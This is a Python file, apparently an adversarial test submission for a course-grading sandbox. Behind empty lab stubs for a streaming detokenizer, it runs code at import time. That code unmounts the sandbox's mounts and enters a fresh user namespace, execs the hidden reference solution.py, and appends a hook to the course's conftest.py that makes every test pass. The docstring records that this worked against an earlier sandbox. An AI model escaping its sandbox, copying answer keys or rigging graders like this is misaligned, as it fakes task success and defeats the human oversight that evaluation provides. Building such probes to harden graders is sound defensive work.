"""Dishonest: undoes the walls (umount each, in a user namespace of its own if need be), then runs the
reference it finds and appends a "pass everything" hook to the course's conftest.py.

Against covers the child had mounted itself (the sandbox before bubblewrap, graded by an ordinary
user: the child owned its user namespace, with CAP_SYS_ADMIN) this read solution.py and changed
every later grading in that copy of the course.
"""

import contextlib
import ctypes
import glob
import os

import mini_vllm

COURSE = os.path.dirname(os.path.dirname(os.path.realpath(mini_vllm.__file__)))
CLONE_NEWUSER, CLONE_NEWNS, MNT_DETACH = 0x10000000, 0x00020000, 2


def _outside_any_user_namespace_as_root() -> bool:
    with open("/proc/self/uid_map") as mapping:
        return os.geteuid() == 0 and mapping.read().split()[:2] == ["0", "0"]


def _undo_the_walls() -> None:
    if _outside_any_user_namespace_as_root():
        return  # run by hand as root on a real machine, outside any sandbox: never unmount the host
    libc = ctypes.CDLL(None, use_errno=True)
    for attempt in range(2):
        with open("/proc/self/mountinfo") as mounts:
            targets = {line.split()[4] for line in mounts}
        for target in sorted(targets, key=len, reverse=True):  # deepest first: the covers, then what they cover
            libc.umount2(target.encode(), MNT_DETACH)
        if attempt == 0 and libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
            return  # no user namespace of its own either


def utf8_expected_len(lead_byte: int) -> int:
    raise NotImplementedError("lab-03 task 1: implement utf8_expected_len")


class StreamingDetokenizer:
    def __init__(self, tokenizer):
        self.tokenizer = tokenizer

    def feed(self, token_id: int) -> str:
        raise NotImplementedError("lab-03 task 2: implement StreamingDetokenizer.feed")

    def flush(self) -> str:
        raise NotImplementedError("lab-03 task 3: implement StreamingDetokenizer.flush")

    @property
    def held_bytes(self) -> bytes:
        raise NotImplementedError("lab-03 task 2: implement StreamingDetokenizer.held_bytes")


# The attack, after the stubs above, so that whatever it runs replaces them.
with contextlib.suppress(OSError):
    _undo_the_walls()
for _path in glob.glob(f"{COURSE}/phase-16-*/labs/lab-03-*/solution.py"):
    with contextlib.suppress(OSError):
        with open(_path) as _source:
            exec(compile(_source.read(), _path, "exec"), globals())
        break
with contextlib.suppress(OSError), open(os.path.join(COURSE, "conftest.py"), "a") as _conftest:
    _conftest.write("\ndef pytest_runtest_call(item):\n    item.runtest = lambda: None\n")
